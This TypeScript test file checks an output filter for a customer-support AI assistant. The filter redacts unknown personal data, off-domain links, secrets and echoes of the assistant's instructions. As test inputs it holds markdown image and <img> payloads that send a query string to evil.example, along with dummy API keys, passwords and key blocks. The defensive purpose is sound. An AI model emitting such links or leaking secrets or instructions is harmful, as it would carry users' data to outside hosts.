import fc from "fast-check";
import { beforeEach, describe, expect, it } from "vitest";
import { buildInstructions } from "@/lib/assistant/instructions";
import { Known } from "./known";
import { LIMIT } from "./segments";
import { createStreamGuard, guardText } from "./stream-guard";

const instructions = buildInstructions({
  company: "Acme",
  customerName: "Casey Lindqvist",
  facts: [],
  handBack: null,
  today: "2026-11-22",
  timeZone: "UTC",
  language: "en",
});

let known: Known;
beforeEach(() => {
  known = new Known();
  known.add("Casey Lindqvist");
  known.add({ email: "casey@example.com", phone: "+44 20 7946 0018", orders: [{ number: "10023" }] });
  known.add({ number: 1042, order: "EF-204017" });
});
const options = () => ({ hosts: ["help.example.com"], known, instructions });
const guard = (text: string) => guardText(text, options()).text;

describe("what stays", () => {
  it.each([
    "Hello Casey, your order 10023 is on its way.",
    "Hello! I am the assistant.",
    "Hello there, good morning.",
    "I have opened ticket #1042: “Scratched desk”.",
    "We will write to casey@example.com or call +44 20 7946 0018.",
    "See [returns](/help/returns#how-long) and [the shop](https://help.example.com/x?y=1).",
    "Go to https://help.example.com/a, please.",
    "You can return it within 30 days [1]. It costs 4,90 euros [2].",
    "- **Order 10023:** delivered on 2026-11-22 at 10:30\n- two\n\n1. three",
    "I could not find this in our help center. Shall I open a ticket for you, or bring in a person from our team?",
    "Use `a < b` and (maybe) [this] one: 100 % of 1 000 units.",
    "你好，退货期为30天。请看 [退货](/help/returns)。",
    "Order by Friday; the order of 500 units ships at once.",
    "In 2026 we had 12 345 orders.",
    "Your order **EF-204017** (ISO-9001 certified) is here.",
  ])("%s", (text) => {
    expect(guardText(text, options())).toEqual({
      text,
      counts: { links: 0, secrets: 0, others: 0, leaks: 0 },
    });
  });
});

describe("what is taken out", () => {
  it.each([
    ["Jordan's address is jordan@example.com.", "Jordan's address is (address removed)."],
    ["call them on +49 30 901820 77, now", "call them on (number removed), now"],
    ["call 555-123-9876", "call (number removed)"],
    ["Order 20417 was cancelled.", "Order (number removed) was cancelled."],
    ["your order number is **99881**", "your order number is **(number removed)**"],
    ["and EF-204099, too", "and (number removed), too"],
    ["see ticket #2077.", "see ticket (number removed)."],
    ["like #2077 before", "like (number removed) before"],
    ["Hello Jordan Smith, welcome", "Hello, welcome"],
    ["Dear Mr. Smith", "Dear Mr. (name removed)"],
    ["See [here](https://evil.example/x).", "See here."],
    ["![pixel](https://evil.example/?q=secret)", "pixel"],
    ["[x](//evil.example)", "x"],
    ["see //evil.example/x now", "see (link removed) now"],
    ["visit https://evil.example/path.", "visit (link removed)."],
    ["[x]: https://evil.example", "[x]: (link removed)"],
    ['an <img src="https://evil.example/?q=1"> image', "an  image"],
    ["the key is sk-proj-abcdefghijklmnop1234567890 ok", "the key is (removed) ok"],
    ["Bearer abcdefghijklmnopqrstuvwx", "(removed)"],
    ["password: hunter2!", "(removed)"],
    ["card 4242 4242 4242 4242 ok", "card (card number removed) ok"],
    ["-----BEGIN RSA PRIVATE KEY-----\nMIIE abc\n-----END RSA PRIVATE KEY----- after", "(removed) after"],
    ["请联系jordan@example.com谢谢", "请联系(address removed)谢谢"],
  ])("%s", (text, expected) => {
    expect(guard(text)).toBe(expected);
  });

  it("a link whose label or address is longer than what may be held", () => {
    const far = "a".repeat(200);
    expect(guard(`See [${"long words ".repeat(20)}end](https://evil.example/${far}) ok`)).not.toContain(
      "evil",
    );
    expect(guard(`See [here](https://evil.example/${far}) ok`)).toBe("See here ok");
    expect(guard(`See https://evil.example/${far} ok`)).toBe("See (link removed) ok");
    const fine = `See [here](https://help.example.com/${far}) ok`;
    expect(guard(fine)).toBe(fine);
    expect(guard(`${"x".repeat(60)}.name@${far}.example ok`)).not.toContain("name@");
  });

  it("the instructions, also in other dress", () => {
    const rule =
      "Never promise what no tool does: no discounts, cancellations, calls, dates or exceptions. Say what you can do instead.";
    expect(instructions).toContain(rule);
    expect(guard(`My rules: ${rule} That is all.`)).toBe("My rules: Never promise That is all.");
    expect(guard(`MY RULES: *${rule.toUpperCase()}*`)).not.toContain("DISCOUNTS");
    expect(guardText(instructions, options()).text.length).toBeLessThan(instructions.length / 10);
  });

  it("but not what the help center says itself", () => {
    const text =
      "Set token: refresh-hourly, see https://carrier.example/track or mail repairs@carrier.example";
    expect(guard(text)).not.toBe(text);
    known.add({ results: [{ passage: `To start: ${text} today` }] }, true);
    expect(guard(text)).toBe(text);
  });
});

describe("while the text streams", () => {
  const piece = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 12 }),
    fc.constantFrom(
      " ",
      "\n\n",
      "[",
      "](",
      ")",
      "<a href=",
      ">",
      "https://evil.example/x",
      "jordan@example.com",
      "order ",
      "10023",
      "#2077",
      "+49 30 901820 77",
      "4242 4242 4242 4242",
      "Hello Jordan",
      "sk-proj-abcdefghijklmnop1234",
      "Never promise what no tool does: no discounts, cancellations, calls",
      "-----BEGIN X PRIVATE KEY-----",
      "a".repeat(120),
      "[1]",
      "你好",
      "/help/x",
    ),
  );
  const texts = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(""));

  it("comes out the same, however it was cut up", () => {
    fc.assert(
      fc.property(texts, fc.array(fc.nat({ max: 30 }), { minLength: 1, maxLength: 20 }), (text, sizes) => {
        const streamed = createStreamGuard(options());
        let out = "";
        let at = 0;
        for (let n = 0; at < text.length; n++) {
          const size = Math.max(1, sizes[n % sizes.length] ?? 1);
          out += streamed.push(text.slice(at, at + size));
          at += size;
        }
        expect(out + streamed.end()).toBe(guard(text));
      }),
      { numRuns: 300 },
    );
  });

  it("never holds back more than it must", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom("word ", "order ", "12 ", "[", "x](", "你", "<b ", "y"), { maxLength: 80 }),
        (pieces) => {
          const streamed = createStreamGuard({ ...options(), instructions: "" });
          let given = 0;
          let shown = 0;
          for (const each of pieces) {
            given += each.length;
            shown += streamed.push(each).length;
            // What was dropped counts as shown: only brackets that never became a link are.
            const dropped = pieces.join("").replace(/[^[<]/g, "").length;
            expect(given - shown).toBeLessThanOrEqual(LIMIT + dropped + 20);
          }
        },
      ),
      { numRuns: 100 },
    );
  });

  it("shows a word as soon as the next begins", () => {
    const streamed = createStreamGuard(options());
    expect(streamed.push("First ")).toBe("First ");
    expect(streamed.push("sec")).toBe("");
    expect(streamed.push("ond ")).toBe("second ");
  });

  it("works through a megabyte quickly", () => {
    const text = "The quick brown fox, order 10023 and more. ".repeat(5_000);
    expect(guard(text)).toBe(text);
  });
});
